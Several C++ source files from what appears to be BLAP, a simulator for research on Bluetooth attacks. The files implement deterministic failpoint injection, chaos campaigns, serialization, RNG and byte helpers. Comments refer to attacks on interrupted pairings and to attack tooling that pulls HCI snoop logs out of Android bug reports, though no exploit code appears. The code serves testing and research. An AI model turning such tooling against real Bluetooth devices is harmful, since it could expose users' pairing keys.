      armed.push_back({chaos::FaultSite{site, ordinal}});
  }
  report.singles = armed.size();

  if (config.pairs && report.singles >= 2) {
    // Bounded two-fault sample: seed-derived index pairs across *different*
    // sites, deduplicated, in draw order. Pure function of (seed, surface).
    std::uint64_t state = config.seed ^ 0x9E3779B97F4A7C15ULL;
    std::set<std::pair<std::size_t, std::size_t>> seen;
    std::size_t drawn = 0;
    for (std::size_t attempt = 0; drawn < config.pair_cap && attempt < config.pair_cap * 16;
         ++attempt) {
      const std::size_t i = static_cast<std::size_t>(splitmix64(state) % report.singles);
      const std::size_t j = static_cast<std::size_t>(splitmix64(state) % report.singles);
      if (i == j || armed[i][0].site == armed[j][0].site) continue;
      const auto key = std::minmax(i, j);
      if (!seen.insert(key).second) continue;
      armed.push_back({armed[key.first][0], armed[key.second][0]});
      ++drawn;
    }
    report.pair_trials = drawn;
  }

  // Phase 3: explore. All trials share the campaign seed — the armed fault
  // is the only degree of freedom — and write their record at their own
  // index, so the report is BLAP_JOBS-independent.
  std::vector<ChaosTrialRecord> records(armed.size());
  CampaignConfig cfg;
  cfg.label = "chaos-sweep";
  cfg.trials = armed.size();
  cfg.root_seed = config.seed;
  cfg.jobs = config.jobs;
  cfg.seed_fn = [](std::uint64_t root, std::size_t) { return root; };

  const std::uint64_t epoch = g_chaos_epoch.fetch_add(1, std::memory_order_relaxed) + 1;
  run_campaign(cfg, [&](const TrialSpec& spec) {
    thread_local std::unique_ptr<WorkerState> tls;
    if (tls == nullptr || tls->epoch != epoch || tls->dirty) {
      if (tls == nullptr) tls = std::make_unique<WorkerState>();
      tls->epoch = epoch;
      tls->dirty = false;
      tls->scenario = snapshot::build_scenario(config.seed, config.scenario);
    }

    auto plan = chaos::ChaosPlan::inject(armed[spec.index]);
    auto trial = snapshot::run_chaos_trial(tls->scenario, *warm, config.seed, plan);
    if (trial.outcome == snapshot::ChaosOutcome::kCleanError) tls->dirty = true;

    ChaosTrialRecord& rec = records[spec.index];
    rec.faults = armed[spec.index];
    rec.outcome = trial.outcome;
    rec.body_success = trial.body_success;
    rec.fired = trial.fired;
    rec.virtual_end = trial.virtual_end;
    rec.violations = std::move(trial.violations);

    TrialResult r;
    r.success = trial.outcome != snapshot::ChaosOutcome::kViolation &&
                trial.outcome != snapshot::ChaosOutcome::kStuck;
    r.value = static_cast<double>(static_cast<int>(trial.outcome));
    r.virtual_end = trial.virtual_end;
    return r;
  });

  for (const ChaosTrialRecord& rec : records) {
    switch (rec.outcome) {
      case snapshot::ChaosOutcome::kCompleted: ++report.completed; break;
      case snapshot::ChaosOutcome::kRecovered: ++report.recovered; break;
      case snapshot::ChaosOutcome::kCleanError: ++report.clean_errors; break;
      case snapshot::ChaosOutcome::kStuck: ++report.stuck; break;
      case snapshot::ChaosOutcome::kViolation: ++report.violations; break;
    }
  }

  // Deterministic post-pass: pin the first record_limit findings as replay
  // bundles, walking the index-ordered records.
  if (!config.record_dir.empty() && (report.violations > 0 || report.stuck > 0)) {
    std::error_code ec;
    std::filesystem::create_directories(config.record_dir, ec);
    if (!ec) {
      std::size_t recorded = 0;
      for (std::size_t i = 0; i < records.size() && recorded < config.record_limit; ++i) {
        const ChaosTrialRecord& rec = records[i];
        if (rec.outcome != snapshot::ChaosOutcome::kViolation &&
            rec.outcome != snapshot::ChaosOutcome::kStuck)
          continue;
        snapshot::ReplayBundle bundle;
        bundle.scenario = config.scenario;
        bundle.build_seed = config.seed;
        bundle.trial_index = i;
        bundle.trial_seed = config.seed;
        bundle.trial_kind = "chaos_bonded_cell";
        bundle.chaos_faults = chaos::encode_fault_sites(rec.faults);
        bundle.warm_setup = "bonded";
        bundle.expected_success = false;
        bundle.expected_value = static_cast<double>(static_cast<int>(rec.outcome));
        bundle.expected_virtual_end = rec.virtual_end;
        bundle.snapshot = warm->bytes();

        char name[64];
        std::snprintf(name, sizeof name, "chaos-%06zu.blapreplay", i);
        const std::string path = config.record_dir + "/" + name;
        if (bundle.save_file(path)) {
          report.bundle_paths.push_back(path);
          ++recorded;
        }
      }
    }
  }

  report.trials = std::move(records);
  return report;
}

std::string ChaosCampaignReport::to_json() const {
  std::string out = "{\n";
  out += "  \"explored\": " + std::string(explored ? "true" : "false") + ",\n";
  out += "  \"sites\": " + std::to_string(sites) + ",\n";
  out += "  \"singles\": " + std::to_string(singles) + ",\n";
  out += "  \"pairs\": " + std::to_string(pair_trials) + ",\n";
  out += "  \"baseline\": {\"outcome\": \"" + std::string(to_string(baseline.outcome)) +
         "\", \"total_hits\": " + std::to_string(baseline.total_hits) + ", \"hits\": {";
  bool first = true;
  for (const auto& [site, count] : baseline.hits) {
    if (!first) out += ", ";
    first = false;
    out += "\"" + site + "\": " + std::to_string(count);
  }
  out += "}},\n";
  out += "  \"outcomes\": {\"completed\": " + std::to_string(completed) +
         ", \"recovered\": " + std::to_string(recovered) +
         ", \"clean_error\": " + std::to_string(clean_errors) +
         ", \"stuck\": " + std::to_string(stuck) +
         ", \"violation\": " + std::to_string(violations) + "},\n";
  out += "  \"trials\": [\n";
  for (std::size_t i = 0; i < trials.size(); ++i) {
    const ChaosTrialRecord& rec = trials[i];
    out += "    {\"faults\": \"" + chaos::encode_fault_sites(rec.faults) +
           "\", \"outcome\": \"" + std::string(to_string(rec.outcome)) +
           "\", \"fired\": " + std::to_string(rec.fired) +
           ", \"virtual_end_us\": " + std::to_string(rec.virtual_end);
    if (!rec.violations.empty()) {
      out += ", \"violations\": [";
      for (std::size_t v = 0; v < rec.violations.size(); ++v) {
        if (v != 0) out += ", ";
        out += "\"";
        json_escape_into(out, std::string(rec.violations[v].invariant) + ": " +
                                  rec.violations[v].detail);
        out += "\"";
      }
      out += "]";
    }
    out += "}";
    if (i + 1 != trials.size()) out += ",";
    out += "\n";
  }
  out += "  ]\n}\n";
  return out;
}

}  // namespace blap::campaign
