// failpoint.hpp — the deterministic failpoint registry.
//
// BLAP's attacks live in the stack's rarely-exercised corners: pairings
// interrupted mid-handshake, page races lost after the baseband came up,
// links torn down while an LMP exchange is in flight (paper §V). A
// failpoint is a *named* internal failure site — "the delivery report for
// this baseband frame was lost", "this supervision timer fired early" —
// threaded through the stack as
//
//   if (BLAP_FAILPOINT("controller.arq.report_lost")) return;
//
// Contract, mirrored from the `obs->` instrumentation sites:
//
//   * OFF by default. With no ChaosPlan armed on the calling thread the
//     macro is a single never-taken branch on a thread-local null pointer;
//     stack behavior (and every golden output) is byte-identical to a
//     build without the site. blap-lint rule D7 enforces that every site
//     sits in an `if` condition so this holds structurally.
//   * DETERMINISTIC when on. A plan either *records* (count every hit,
//     never fire — the exploration baseline), *injects* (fire at exact
//     (site, ordinal) pairs — the exploration trials), or fires
//     *probabilistically* from its own seeded SplitMix64 stream
//     (fuzz-style soak runs). No wall clock, no global RNG: two runs of
//     the same plan over the same simulation hit and fire identically.
//   * THREAD-LOCAL arming. Campaign workers run concurrent trials; each
//     arms its own plan via ScopedChaosPlan, so trials never observe each
//     other.
//
// Site names are dotted lowercase `layer.component.event` (see DESIGN §14
// for the naming scheme and the full site catalogue).
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace blap::chaos {

/// One armed fault: fire the `ordinal`-th hit (0-based) of `site`.
struct FaultSite {
  std::string site;
  std::uint64_t ordinal = 0;

  friend bool operator==(const FaultSite&, const FaultSite&) = default;
  friend auto operator<=>(const FaultSite&, const FaultSite&) = default;
};

/// Compact text form used by replay bundles and reports: "site@ordinal",
/// lists joined with '+': "controller.arq.report_lost@3+radio.frame.drop@0".
[[nodiscard]] std::string encode_fault_sites(const std::vector<FaultSite>& sites);
/// Inverse of encode_fault_sites(); nullopt-like empty+false via the bool.
[[nodiscard]] bool decode_fault_sites(const std::string& text, std::vector<FaultSite>& out);

class ChaosPlan {
 public:
  /// Baseline mode: count every hit, never fire.
  [[nodiscard]] static ChaosPlan recorder();
  /// Exploration mode: fire exactly at each armed (site, ordinal).
  [[nodiscard]] static ChaosPlan inject(std::vector<FaultSite> faults);
  /// Soak mode: every hit fires with `probability`, drawn from a SplitMix64
  /// stream rooted at `seed` — per-plan seeding keeps soak runs replayable.
  [[nodiscard]] static ChaosPlan random(std::uint64_t seed, double probability);

  /// Called by BLAP_FAILPOINT (after the null check). Counts the hit and
  /// decides whether the site fires this time.
  bool on_hit(const char* site);

  /// Hit counts per site, in site-name order (deterministic).
  [[nodiscard]] const std::map<std::string, std::uint64_t>& hits() const { return hits_; }
  /// Total hits across all sites.
  [[nodiscard]] std::uint64_t total_hits() const;
  /// How many times an armed fault actually fired.
  [[nodiscard]] std::uint64_t fired() const { return fired_; }
  [[nodiscard]] const std::vector<FaultSite>& faults() const { return faults_; }

  /// Forget hit/fire state but keep the armed faults — reuse across trials.
  void reset_counts();

 private:
  ChaosPlan() = default;

  bool record_only_ = false;
  double probability_ = 0.0;
  std::uint64_t rng_state_ = 0;
  std::vector<FaultSite> faults_;  // sorted; empty unless inject mode
  std::map<std::string, std::uint64_t> hits_;
  std::uint64_t fired_ = 0;
};

/// The plan armed on the calling thread; null means chaos is off. Not a
/// singleton on purpose: arming is scoped (ScopedChaosPlan) and per-thread,
/// exactly like a campaign trial's Simulation.
extern thread_local ChaosPlan* tl_plan;

/// Out-of-line slow path; only reached when a plan is armed.
[[nodiscard]] bool failpoint_hit(const char* site);

/// RAII arming of a plan on the current thread.
class ScopedChaosPlan {
 public:
  explicit ScopedChaosPlan(ChaosPlan& plan) : prev_(tl_plan) { tl_plan = &plan; }
  ~ScopedChaosPlan() { tl_plan = prev_; }
  ScopedChaosPlan(const ScopedChaosPlan&) = delete;
  ScopedChaosPlan& operator=(const ScopedChaosPlan&) = delete;

 private:
  ChaosPlan* prev_;
};

}  // namespace blap::chaos

/// A named failure site. True exactly when the armed plan fires the site —
/// the caller then takes the failure branch (drop the frame, lose the
/// report, fire the timer early...). One disabled branch when chaos is off.
#define BLAP_FAILPOINT(site) \
  (::blap::chaos::tl_plan != nullptr && ::blap::chaos::failpoint_hit(site))
