#include "chaos/failpoint.hpp"

#include <algorithm>
#include <cstdlib>

namespace blap::chaos {

thread_local ChaosPlan* tl_plan = nullptr;

namespace {

// SplitMix64 (same constants as campaign::splitmix64; duplicated here so the
// base chaos library depends on nothing above common).
std::uint64_t splitmix64_step(std::uint64_t& state) {
  state += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

}  // namespace

std::string encode_fault_sites(const std::vector<FaultSite>& sites) {
  std::string out;
  for (const FaultSite& fault : sites) {
    if (!out.empty()) out += '+';
    out += fault.site + "@" + std::to_string(fault.ordinal);
  }
  return out;
}

bool decode_fault_sites(const std::string& text, std::vector<FaultSite>& out) {
  out.clear();
  std::size_t pos = 0;
  while (pos < text.size()) {
    std::size_t end = text.find('+', pos);
    if (end == std::string::npos) end = text.size();
    const std::string token = text.substr(pos, end - pos);
    const std::size_t at = token.rfind('@');
    if (at == std::string::npos || at == 0 || at + 1 >= token.size()) return false;
    FaultSite fault;
    fault.site = token.substr(0, at);
    const std::string ordinal = token.substr(at + 1);
    char* rest = nullptr;
    fault.ordinal = std::strtoull(ordinal.c_str(), &rest, 10);
    if (rest == ordinal.c_str() || *rest != '\0') return false;
    out.push_back(std::move(fault));
    pos = end + 1;
  }
  return true;
}

ChaosPlan ChaosPlan::recorder() {
  ChaosPlan plan;
  plan.record_only_ = true;
  return plan;
}

ChaosPlan ChaosPlan::inject(std::vector<FaultSite> faults) {
  ChaosPlan plan;
  std::sort(faults.begin(), faults.end());
  plan.faults_ = std::move(faults);
  return plan;
}

ChaosPlan ChaosPlan::random(std::uint64_t seed, double probability) {
  ChaosPlan plan;
  plan.probability_ = probability;
  plan.rng_state_ = seed;
  return plan;
}

bool ChaosPlan::on_hit(const char* site) {
  auto [it, inserted] = hits_.try_emplace(site, 0);
  const std::uint64_t ordinal = it->second++;
  if (record_only_) return false;
  if (probability_ > 0.0) {
    // 53-bit uniform in [0, 1) from the plan's own stream.
    const double draw =
        static_cast<double>(splitmix64_step(rng_state_) >> 11) * 0x1.0p-53;
    if (draw < probability_) {
      ++fired_;
      return true;
    }
    return false;
  }
  for (const FaultSite& fault : faults_) {
    if (fault.ordinal == ordinal && fault.site == it->first) {
      ++fired_;
      return true;
    }
  }
  return false;
}

std::uint64_t ChaosPlan::total_hits() const {
  std::uint64_t total = 0;
  for (const auto& [site, count] : hits_) total += count;
  return total;
}

void ChaosPlan::reset_counts() {
  hits_.clear();
  fired_ = 0;
}

bool failpoint_hit(const char* site) { return tl_plan->on_hit(site); }

}  // namespace blap::chaos
