// chaos_campaign.hpp — systematic failpoint exploration.
//
// The sweep answers, for every failpoint instance the bonded-cell scenario
// can reach: "if exactly this fault fires, does the stack recover through a
// genuine timeout path without violating a cross-layer invariant?" Three
// phases, all deterministic:
//
//   1. BASELINE. One recorder-mode trial (count every failpoint passage,
//      fire nothing) forked from the bonded warm snapshot. Its per-site hit
//      counts define the explorable surface.
//   2. ENUMERATE. Every (site, ordinal) with ordinal < min(hits,
//      ordinal_cap) becomes one single-fault trial; optional pair mode adds
//      a bounded, seed-derived sample of two-fault combinations across
//      different sites.
//   3. EXPLORE. Each trial re-runs the identical scenario — same warm
//      snapshot, same reseed — with only the armed fault different, across
//      the campaign worker pool. A single-fault trial is byte-identical to
//      the baseline up to its armed ordinal, so the fault is guaranteed to
//      fire (pairs guarantee only their first fault). Outcomes and the
//      report are pure functions of the config: byte-identical for any
//      BLAP_JOBS, because trials land in a pre-sized vector at their own
//      index and every aggregate walks that vector in order.
//
// Violation/stuck trials are auto-recorded as .blapreplay bundles
// (trial_kind "chaos_bonded_cell", `chaos:` fault list, `warm: bonded`)
// through the same failure-record path the fork campaigns use, so a finding
// replays under blap-replay exactly like any other pinned failure.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "chaos/failpoint.hpp"
#include "snapshot/chaos_trial.hpp"
#include "snapshot/scenarios.hpp"

namespace blap::campaign {

struct ChaosCampaignConfig {
  snapshot::ScenarioParams scenario = snapshot::bonded_cell_params();
  /// Build seed AND the (single, shared) reseed of every trial: the armed
  /// fault must be the only difference between a trial and the baseline.
  std::uint64_t seed = 10'000;
  /// Per-site cap on explored ordinals; sites hit more often than this
  /// (e.g. per-frame delivery reports) are sampled from the front.
  std::uint64_t ordinal_cap = 24;
  /// Also explore two-fault combinations (bounded by pair_cap).
  bool pairs = false;
  std::size_t pair_cap = 48;
  /// 0 = resolve_jobs() (BLAP_JOBS env, else hardware_concurrency).
  unsigned jobs = 0;
  /// Directory for auto-recorded violation/stuck bundles; empty = off.
  std::string record_dir;
  std::size_t record_limit = 8;
};

/// One explored instance, index-ordered (singles first, then pairs).
struct ChaosTrialRecord {
  std::vector<chaos::FaultSite> faults;
  snapshot::ChaosOutcome outcome = snapshot::ChaosOutcome::kCompleted;
  bool body_success = false;
  std::uint64_t fired = 0;
  SimTime virtual_end = 0;
  std::vector<invariants::Violation> violations;
};

struct ChaosCampaignReport {
  /// False only when the bonded warm point failed strict capture; then
  /// nothing was explored and fallback_reason says why.
  bool explored = false;
  std::string fallback_reason;

  snapshot::ChaosTrialReport baseline;
  std::size_t sites = 0;        ///< distinct failpoint sites the baseline reached
  std::size_t singles = 0;      ///< single-fault instances explored
  std::size_t pair_trials = 0;  ///< two-fault combinations explored

  std::vector<ChaosTrialRecord> trials;

  // Outcome tally over `trials`.
  std::size_t completed = 0;
  std::size_t recovered = 0;
  std::size_t clean_errors = 0;
  std::size_t stuck = 0;
  std::size_t violations = 0;

  std::vector<std::string> bundle_paths;

  /// Deterministic report JSON: a pure function of the config (identical
  /// for any BLAP_JOBS — the CI chaos job diffs exactly this).
  [[nodiscard]] std::string to_json() const;
};

[[nodiscard]] ChaosCampaignReport run_chaos_campaign(const ChaosCampaignConfig& config);

}  // namespace blap::campaign
