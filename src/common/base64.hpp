// base64.hpp — RFC 4648 base64 codec.
//
// Android bug reports embed binary attachments (including the Bluetooth HCI
// snoop log) base64-encoded in a text document; the attack tooling decodes
// them back out (paper §IV-A, ref [22]).
#pragma once

#include <optional>
#include <string>

#include "common/bytes.hpp"

namespace blap {

/// Encode to standard base64 (with padding). `line_width` > 0 inserts a
/// newline every that many output characters (MIME style).
[[nodiscard]] std::string base64_encode(BytesView data, std::size_t line_width = 0);

/// Decode base64; whitespace is skipped. Returns nullopt on malformed input,
/// including a truncated final group (the canonical '='-padded form is
/// required, so a stream cut mid-quantum never decodes to a silent prefix).
[[nodiscard]] std::optional<Bytes> base64_decode(const std::string& text);

}  // namespace blap
