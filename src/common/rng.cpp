#include "common/rng.hpp"

namespace blap {

namespace {
std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9E3779B97F4A7C15ULL;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
}  // namespace

Rng::Rng(std::uint64_t seed) {
  std::uint64_t s = seed;
  for (auto& w : state_) w = splitmix64(s);
  // A state of all zeros is the one forbidden fixed point of xoshiro.
  if ((state_[0] | state_[1] | state_[2] | state_[3]) == 0) state_[0] = 1;
}

std::uint64_t Rng::next_u64() {
  const std::uint64_t result = rotl(state_[1] * 5, 7) * 9;
  const std::uint64_t t = state_[1] << 17;
  state_[2] ^= state_[0];
  state_[3] ^= state_[1];
  state_[1] ^= state_[2];
  state_[0] ^= state_[3];
  state_[2] ^= t;
  state_[3] = rotl(state_[3], 45);
  return result;
}

std::uint64_t Rng::uniform(std::uint64_t bound) {
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t threshold = (0 - bound) % bound;
  for (;;) {
    const std::uint64_t r = next_u64();
    if (r >= threshold) return r % bound;
  }
}

std::int64_t Rng::uniform_range(std::int64_t lo, std::int64_t hi) {
  const std::uint64_t span = static_cast<std::uint64_t>(hi - lo) + 1;
  return lo + static_cast<std::int64_t>(uniform(span));
}

double Rng::uniform01() {
  return static_cast<double>(next_u64() >> 11) * 0x1.0p-53;
}

bool Rng::chance(double p) { return uniform01() < p; }

Bytes Rng::buffer(std::size_t n) {
  Bytes out(n);
  fill(out.data(), n);
  return out;
}

Rng Rng::fork() { return Rng(next_u64()); }

void Rng::fill(std::uint8_t* dst, std::size_t n) {
  std::size_t i = 0;
  while (i < n) {
    std::uint64_t r = next_u64();
    for (int b = 0; b < 8 && i < n; ++b, ++i) {
      dst[i] = static_cast<std::uint8_t>(r);
      r >>= 8;
    }
  }
}

}  // namespace blap
