// state_io.hpp — versioned byte serialization for simulation snapshots.
//
// StateWriter/StateReader are the primitives every component's
// save_state()/load_state() pair is written against. The format is explicit
// and boring on purpose: fixed little-endian integers, length-prefixed byte
// strings, and tagged sections with a byte count, so that
//   * a snapshot is a pure function of the logical simulation state (no
//     pointers, no padding, no hash-order),
//   * a reader can verify it is looking at the section it expects and
//     reject truncated or mismatched input without UB, and
//   * the top-level version field gates any future layout change.
//
// Error model: no exceptions. A reader that runs out of bytes or hits a tag
// mismatch sets a sticky failure flag and every subsequent read returns a
// zero value; callers check ok() once at the end of a load. Writers cannot
// fail.
#pragma once

#include <array>
#include <cstdint>
#include <cstring>
#include <optional>
#include <string>
#include <vector>

#include "common/bytes.hpp"

namespace blap::state {

/// How a component should apply a loaded state.
///
///  * kRewind  — the fork path: the scheduler queue has been cleared, and
///    the component must reset itself *entirely* to the serialized state,
///    clearing any callback-holding residue (pending operations, attached
///    taps beyond the captured count, user-agent pointers). Only valid for
///    snapshots captured at a strict/quiescent point.
///  * kInPlace — the round-trip-test path: the snapshot is being restored
///    onto the very state it was captured from, with the scheduler queue
///    (and its closures) intact. The component overwrites every serialized
///    field and leaves non-serializable members (EventHandles, callbacks)
///    untouched.
enum class RestoreMode : std::uint8_t { kRewind, kInPlace };

/// Four-character section tag packed into a u32 ("SCHD", "CTRL", ...).
constexpr std::uint32_t tag(char a, char b, char c, char d) {
  return static_cast<std::uint32_t>(static_cast<unsigned char>(a)) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(b)) << 8) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(c)) << 16) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(d)) << 24);
}

class StateWriter {
 public:
  void u8(std::uint8_t v) { out_.push_back(v); }
  void u16(std::uint16_t v) {
    u8(static_cast<std::uint8_t>(v & 0xFF));
    u8(static_cast<std::uint8_t>(v >> 8));
  }
  void u32(std::uint32_t v) {
    u16(static_cast<std::uint16_t>(v & 0xFFFF));
    u16(static_cast<std::uint16_t>(v >> 16));
  }
  void u64(std::uint64_t v) {
    u32(static_cast<std::uint32_t>(v & 0xFFFFFFFFULL));
    u32(static_cast<std::uint32_t>(v >> 32));
  }
  void boolean(bool v) { u8(v ? 1 : 0); }
  void f64(double v) {
    std::uint64_t bits = 0;
    static_assert(sizeof(bits) == sizeof(v));
    std::memcpy(&bits, &v, sizeof(bits));
    u64(bits);
  }
  /// Length-prefixed byte string.
  void bytes(BytesView v) {
    u64(v.size());
    out_.insert(out_.end(), v.begin(), v.end());
  }
  void str(const std::string& v) {
    bytes(BytesView(reinterpret_cast<const std::uint8_t*>(v.data()), v.size()));
  }
  template <std::size_t N>
  void fixed(const std::array<std::uint8_t, N>& v) {
    out_.insert(out_.end(), v.begin(), v.end());
  }

  /// Open a tagged section; returns a token to pass to end_section. Sections
  /// may nest. The byte count is patched in when the section closes, so a
  /// reader can skip sections it does not understand.
  std::size_t begin_section(std::uint32_t section_tag) {
    u32(section_tag);
    const std::size_t at = out_.size();
    u64(0);  // placeholder for the payload length
    return at;
  }
  void end_section(std::size_t token) {
    const std::uint64_t payload = out_.size() - token - 8;
    for (int i = 0; i < 8; ++i)
      out_[token + static_cast<std::size_t>(i)] =
          static_cast<std::uint8_t>((payload >> (8 * i)) & 0xFF);
  }

  [[nodiscard]] const std::vector<std::uint8_t>& data() const { return out_; }
  [[nodiscard]] std::vector<std::uint8_t> take() { return std::move(out_); }

 private:
  std::vector<std::uint8_t> out_;
};

class StateReader {
 public:
  explicit StateReader(BytesView data) : data_(data) {}

  [[nodiscard]] bool ok() const { return !failed_; }
  /// Force the reader into the failed state (semantic validation errors).
  void fail(const std::string& why) {
    if (!failed_) error_ = why;
    failed_ = true;
  }
  [[nodiscard]] const std::string& error() const { return error_; }
  [[nodiscard]] std::size_t remaining() const { return data_.size() - pos_; }

  std::uint8_t u8() {
    if (!need(1)) return 0;
    return data_[pos_++];
  }
  std::uint16_t u16() {
    const auto lo = u8();
    return static_cast<std::uint16_t>(lo | (static_cast<std::uint16_t>(u8()) << 8));
  }
  std::uint32_t u32() {
    const auto lo = u16();
    return lo | (static_cast<std::uint32_t>(u16()) << 16);
  }
  std::uint64_t u64() {
    const auto lo = u32();
    return lo | (static_cast<std::uint64_t>(u32()) << 32);
  }
  bool boolean() { return u8() != 0; }
  double f64() {
    const std::uint64_t bits = u64();
    double v = 0.0;
    std::memcpy(&v, &bits, sizeof(v));
    return v;
  }
  Bytes bytes() {
    const std::uint64_t n = u64();
    if (!need(n)) return {};
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
              data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
    pos_ += static_cast<std::size_t>(n);
    return out;
  }
  std::string str() {
    const Bytes raw = bytes();
    return {raw.begin(), raw.end()};
  }
  template <std::size_t N>
  std::array<std::uint8_t, N> fixed() {
    std::array<std::uint8_t, N> out{};
    if (!need(N)) return out;
    std::memcpy(out.data(), data_.data() + pos_, N);
    pos_ += N;
    return out;
  }

  /// Skip `n` raw bytes (structural validation walks that hop over section
  /// payloads without parsing them).
  void skip(std::uint64_t n) {
    if (!need(n)) return;
    pos_ += static_cast<std::size_t>(n);
  }

  /// Read a section header and verify the tag. Returns the payload length
  /// (0 on failure). On tag mismatch the reader fails sticky.
  std::uint64_t expect_section(std::uint32_t section_tag) {
    const std::uint32_t got = u32();
    const std::uint64_t len = u64();
    if (failed_) return 0;
    if (got != section_tag) {
      fail("section tag mismatch");
      return 0;
    }
    if (!check(len)) {
      fail("section length exceeds input");
      return 0;
    }
    return len;
  }

 private:
  [[nodiscard]] bool check(std::uint64_t n) const { return n <= data_.size() - pos_; }
  bool need(std::uint64_t n) {
    if (failed_ || !check(n)) {
      fail("input truncated");
      return false;
    }
    return true;
  }

  BytesView data_;
  std::size_t pos_ = 0;
  bool failed_ = false;
  std::string error_;
};

}  // namespace blap::state
