#include "common/bytes.hpp"

#include <cctype>

namespace blap {

namespace {
constexpr char kHexDigits[] = "0123456789abcdef";

int hex_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}
}  // namespace

std::string hex(BytesView data) {
  std::string out;
  out.reserve(data.size() * 2);
  for (std::uint8_t b : data) {
    out.push_back(kHexDigits[b >> 4]);
    out.push_back(kHexDigits[b & 0xF]);
  }
  return out;
}

std::string hex_pretty(BytesView data) {
  std::string out;
  if (data.empty()) return out;
  out.reserve(data.size() * 3 - 1);
  bool first = true;
  for (std::uint8_t b : data) {
    if (!first) out.push_back(' ');
    first = false;
    out.push_back(kHexDigits[b >> 4]);
    out.push_back(kHexDigits[b & 0xF]);
  }
  return out;
}

std::optional<Bytes> unhex(std::string_view text) {
  Bytes out;
  out.reserve(text.size() / 2);
  int hi = -1;
  for (char c : text) {
    if (c == ' ' || c == ':' || c == '\t' || c == '\n' || c == '\r') {
      if (hi >= 0) return std::nullopt;  // separator splitting a byte
      continue;
    }
    const int v = hex_value(c);
    if (v < 0) return std::nullopt;
    if (hi < 0) {
      hi = v;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | v));
      hi = -1;
    }
  }
  if (hi >= 0) return std::nullopt;  // odd digit count
  return out;
}

std::string hexdump(BytesView data) {
  std::string out;
  for (std::size_t off = 0; off < data.size(); off += 16) {
    char header[24];
    std::snprintf(header, sizeof(header), "%08zx  ", off);
    out += header;
    for (std::size_t i = 0; i < 16; ++i) {
      if (off + i < data.size()) {
        const std::uint8_t b = data[off + i];
        out.push_back(kHexDigits[b >> 4]);
        out.push_back(kHexDigits[b & 0xF]);
        out.push_back(' ');
      } else {
        out += "   ";
      }
      if (i == 7) out.push_back(' ');
    }
    out += " |";
    for (std::size_t i = 0; i < 16 && off + i < data.size(); ++i) {
      const char c = static_cast<char>(data[off + i]);
      out.push_back(std::isprint(static_cast<unsigned char>(c)) ? c : '.');
    }
    out += "|\n";
  }
  return out;
}

bool ct_equal(BytesView a, BytesView b) {
  if (a.size() != b.size()) return false;
  std::uint8_t acc = 0;
  for (std::size_t i = 0; i < a.size(); ++i)
    acc |= static_cast<std::uint8_t>(a[i] ^ b[i]);
  return acc == 0;
}

std::optional<std::uint8_t> ByteReader::u8() {
  if (remaining() < 1) return std::nullopt;
  return data_[pos_++];
}

std::optional<std::uint16_t> ByteReader::u16() {
  if (remaining() < 2) return std::nullopt;
  const std::uint16_t v = static_cast<std::uint16_t>(data_[pos_] | (data_[pos_ + 1] << 8));
  pos_ += 2;
  return v;
}

std::optional<std::uint32_t> ByteReader::u32() {
  if (remaining() < 4) return std::nullopt;
  std::uint32_t v = 0;
  for (int i = 3; i >= 0; --i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
  pos_ += 4;
  return v;
}

std::optional<std::uint64_t> ByteReader::u64() {
  if (remaining() < 8) return std::nullopt;
  std::uint64_t v = 0;
  for (int i = 7; i >= 0; --i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
  pos_ += 8;
  return v;
}

std::optional<std::uint32_t> ByteReader::u32be() {
  if (remaining() < 4) return std::nullopt;
  std::uint32_t v = 0;
  for (int i = 0; i < 4; ++i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
  pos_ += 4;
  return v;
}

std::optional<std::uint64_t> ByteReader::u64be() {
  if (remaining() < 8) return std::nullopt;
  std::uint64_t v = 0;
  for (int i = 0; i < 8; ++i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
  pos_ += 8;
  return v;
}

std::optional<Bytes> ByteReader::bytes(std::size_t n) {
  if (remaining() < n) return std::nullopt;
  Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
            data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
  pos_ += n;
  return out;
}

bool ByteReader::skip(std::size_t n) {
  if (remaining() < n) return false;
  pos_ += n;
  return true;
}

ByteWriter& ByteWriter::u8(std::uint8_t v) {
  buf_.push_back(v);
  return *this;
}

ByteWriter& ByteWriter::u16(std::uint16_t v) {
  buf_.push_back(static_cast<std::uint8_t>(v));
  buf_.push_back(static_cast<std::uint8_t>(v >> 8));
  return *this;
}

ByteWriter& ByteWriter::u32(std::uint32_t v) {
  for (int i = 0; i < 4; ++i) buf_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
  return *this;
}

ByteWriter& ByteWriter::u64(std::uint64_t v) {
  for (int i = 0; i < 8; ++i) buf_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
  return *this;
}

ByteWriter& ByteWriter::u32be(std::uint32_t v) {
  for (int i = 3; i >= 0; --i) buf_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
  return *this;
}

ByteWriter& ByteWriter::u64be(std::uint64_t v) {
  for (int i = 7; i >= 0; --i) buf_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
  return *this;
}

